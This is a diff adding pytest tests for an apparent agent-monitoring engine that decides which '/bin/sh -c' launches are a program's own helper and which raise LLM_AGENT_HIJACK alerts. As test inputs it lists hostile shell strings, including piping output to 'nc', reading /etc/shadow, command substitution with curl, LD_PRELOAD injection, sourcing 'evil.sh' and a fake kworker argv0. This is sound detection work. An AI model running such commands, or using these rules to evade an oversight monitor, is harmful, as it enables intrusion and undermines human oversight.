@@ -1,0 +1,206 @@
+"""L2's helper-shell rule (no BPF): which `/bin/sh -c` launches are a program's own helper.
+
+A shell a program (not the agent, not an interpreter) starts as ``/bin/sh -c ONE_SIMPLE_COMMAND``
+is transparent: L2 judges what it execs.  Everything else about shells is as before.  The live
+counterpart (git's upload-pack, tar's gzip; tar -I curl, git sshCommand) is in
+tests/test_live_exec_identity.py.
+"""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+
+import pytest
+
+from h7.config import EngineConfig
+from h7.detect.channels.base import ChannelContext, ProcReader
+from h7.detect.channels.l2_exec import ExecChannel, simple_command
+
+DASH = os.path.realpath("/bin/sh")
+pytestmark = pytest.mark.skipif(os.path.basename(DASH) != "dash", reason="/bin/sh is not dash here")
+
+
+def channel(l2cfg: dict[str, Any] | None = None) -> tuple[ExecChannel, ChannelContext]:
+    cfg = EngineConfig(channel_settings={"L2": l2cfg or {}})
+    ch = ExecChannel(cfg)
+    ctx = ChannelContext(agent=1, agent_id="agent1", info=None, config=cfg, proc=ProcReader(False))
+    return ch, ctx
+
+
+def ex(pid: int, ppid: int, filename: str, args: list[str], exe_name: str | None = None) -> dict[str, Any]:
+    """An exec record as the kernel sends it: the file's device in the kernel's encoding."""
+    st = os.stat(filename)
+    return {
+        "dev": (os.major(st.st_dev) << 20) | os.minor(st.st_dev),
+        "ino": st.st_ino,
+        "size": st.st_size,
+        "type": "exec",
+        "pid": pid,
+        "ppid": ppid,
+        "ts_ns": pid,
+        "filename": filename,
+        "exe_name": exe_name or os.path.basename(os.path.realpath(filename)),
+        "interp": filename,
+        "args": args,
+    }
+
+
+def keys(ch: ExecChannel, ctx: ChannelContext, events: list[dict[str, Any]]) -> list[str]:
+    return [f"{a.code}:{a.key}" for a in ch.on_events(events, ctx)]
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["gzip", "git-upload-pack '/tmp/x y/origin.git'", "xz -T0 -9", 'bzip2 "a b"', "/usr/bin/zstd -q --ultra"],
+)
+def test_one_simple_command(cmd: str) -> None:
+    assert simple_command(cmd)
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "",
+        "  ",
+        "gzip; curl x",
+        "gzip | nc h 1",
+        "gzip && id",
+        "gzip &",
+        "gzip > /tmp/o",
+        "gzip < /etc/shadow",
+        "$(curl x)",
+        "`id`",
+        "gzip $HOME",
+        "(gzip)",
+        "{ gzip; }",
+        "gzip\nid",
+        "gzip \\\nid",
+        "LD_PRELOAD=/tmp/x.so gzip",
+        ". /tmp/evil.sh",
+        "source /tmp/evil.sh",
+        "eval id",
+        "exec gzip",
+        "trap id EXIT",
+        "command gzip",
+        "'unterminated",
+    ],
+)
+def test_not_one_simple_command(cmd: str) -> None:
+    assert simple_command(cmd) is None
+
+
+def test_tar_and_git_helpers_are_transparent_what_they_run_is_judged() -> None:
+    ch, ctx = channel()
+    tar = [ex(10, 1, "/usr/bin/tar", ["tar", "czf", "a.tgz", "src"])]
+    assert (
+        keys(
+            ch,
+            ctx,
+            [*tar, ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "gzip"]), ex(11, 10, "/usr/bin/gzip", ["gzip"])],
+        )
+        == []
+    )
+    git = [ex(20, 1, "/usr/bin/git", ["git", "push"])]
+    up = "git-receive-pack '/tmp/o.git'"
+    assert keys(ch, ctx, [*git, ex(21, 20, "/bin/sh", ["/bin/sh", "-c", up, up])]) == []
+    # tar -I 'curl ...' / tar -I 'python3 x.py': the helper is judged, with the shell as its parent
+    assert keys(
+        ch,
+        ctx,
+        [
+            ex(30, 1, "/usr/bin/tar", ["tar"]),
+            ex(31, 30, "/bin/sh", ["sh", "-c", "curl -s http://h/"]),
+            ex(31, 30, "/usr/bin/curl", ["curl", "-s", "http://h/"]),
+        ],
+    ) == ["LIVING_OFF_THE_LAND:curl"]
+    py = os.path.realpath("/usr/bin/python3")
+    assert keys(
+        ch,
+        ctx,
+        [
+            ex(40, 1, "/usr/bin/tar", ["tar"]),
+            ex(41, 40, "/bin/sh", ["sh", "-c", "python3 /tmp/x.py"]),
+            ex(41, 40, py, ["python3", "/tmp/x.py"]),
+        ],
+    ) == ["LLM_AGENT_HIJACK:python<-dash"]
+    assert ch.status()["helper_shells"] == 4
+
+
+def test_shells_that_are_not_a_programs_helper_still_alert() -> None:
+    ch, ctx = channel()
+    git = ex(10, 1, "/usr/bin/git", ["git"])
+    cases = {
+        # the agent's own sh -c, however simple
+        "agent": [ex(5, 1, "/bin/sh", ["sh", "-c", "gzip"])],
+        # an interpreter's os.system / npm's scripts (node): the interpreter's code chose the command
+        "python": [
+            ex(6, 1, "/usr/bin/python3", ["python3", "x.py"]),
+            ex(7, 6, "/bin/sh", ["sh", "-c", "id"]),
+        ],
+        # git core.sshCommand with arguments: sh -c 'nc h 1 "$@"' ... (not one simple command)
+        "sshcommand": [
+            git,
+            ex(11, 10, "/bin/sh", ["/bin/sh", "-c", 'nc h 1 "$@"', "nc h 1", "h", "git-upload-pack 'x'"]),
+        ],
+        # a shell started by a shell (the transparent one's exec is judged with parent dash)
+        "shell-in-helper": [
+            ex(20, 1, "/usr/bin/tar", ["tar"]),
+            ex(21, 20, "/bin/sh", ["sh", "-c", "sh -c 'id'"]),
+            ex(21, 20, "/bin/sh", ["sh", "-c", "id"]),
+        ],
+        # not /bin/sh: bash asked for by name, or interactive/extra options
+        "bash": [git, ex(12, 10, "/bin/bash", ["bash", "-c", "gzip"])],
+        "options": [git, ex(13, 10, "/bin/sh", ["sh", "-e", "-c", "gzip"])],
+        "argv0": [git, ex(14, 10, "/bin/sh", ["[kworker/u4:2]", "-c", "gzip"])],
+        "script": [git, ex(15, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
+        "builtin": [git, ex(16, 10, "/bin/sh", ["sh", "-c", ". /tmp/x.sh"])],
+        "env": [git, ex(17, 10, "/bin/sh", ["sh", "-c", "BASH_ENV=/tmp/x gzip"])],
+    }
+    for name, evs in cases.items():
+        got = keys(ch, ctx, evs)
+        assert any(k.startswith("LLM_AGENT_HIJACK:") for k in got), (name, got)
+
+
+def test_a_copy_known_by_content_is_never_a_helper() -> None:
+    """A shell known only by its hash (not the indexed /bin/sh inode) is not transparent."""
+    ch, ctx = channel()
+    ch.on_events([ex(10, 1, "/usr/bin/tar", ["tar"])], ctx)
+    ev = dict(ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"]), exe_name="notes", dev=0, ino=0)
+    ids, how = ch.identities(ev, ctx)
+    assert how == "sha256", how
+    assert not ch._helper_shell(ev, ids, "tar")
+    assert keys(ch, ctx, [ev]) == ["LLM_AGENT_HIJACK:dash:sha256:/bin/sh<-tar"]
+
+
+def test_helper_shells_can_be_switched_off() -> None:
+    ch, ctx = channel({"helper_shells": []})
+    got = keys(
+        ch, ctx, [ex(10, 1, "/usr/bin/tar", ["tar"]), ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "gzip"])]
+    )
+    assert got == ["LLM_AGENT_HIJACK:dash<-tar"]
+
+
+@pytest.mark.parametrize("launcher", ["env", "nohup", "timeout", "xargs", "setsid"])
+def test_a_launchers_shell_is_the_agents_shell(launcher: str) -> None:
+    """`env sh -c gzip`: env runs what the agent gave it, so the shell is the agent's (`dash<-env`)."""
+    ch, ctx = channel()
+    path = f"/usr/bin/{launcher}"
+    if not os.path.exists(path):
+        pytest.skip(f"no {path}")
+    got = keys(ch, ctx, [ex(10, 1, path, [launcher]), ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"])])
+    assert got == [f"LLM_AGENT_HIJACK:dash<-{launcher}"]
+
+
+def test_a_reused_pid_does_not_inherit_a_dead_programs_image() -> None:
+    """tar (pid 10) exits; the agent's next child gets pid 10 and forks without exec: its child's sh is
+    the agent's, not tar's helper."""
+    ch, ctx = channel()
+    tar = ex(10, 1, "/usr/bin/tar", ["tar"])
+    gone = {"type": "exit", "pid": 10, "tid": 10, "ts_ns": 11}
+    got = keys(ch, ctx, [tar, gone, ex(12, 10, "/bin/sh", ["sh", "-c", "gzip"])])
+    assert got == ["LLM_AGENT_HIJACK:dash<-agent"]
+    # a thread's exit is not the process's
+    ch2, ctx2 = channel()
+    thread = {"type": "exit", "pid": 10, "tid": 13, "ts_ns": 11}
+    assert keys(ch2, ctx2, [tar, thread, ex(12, 10, "/bin/sh", ["sh", "-c", "gzip"])]) == []
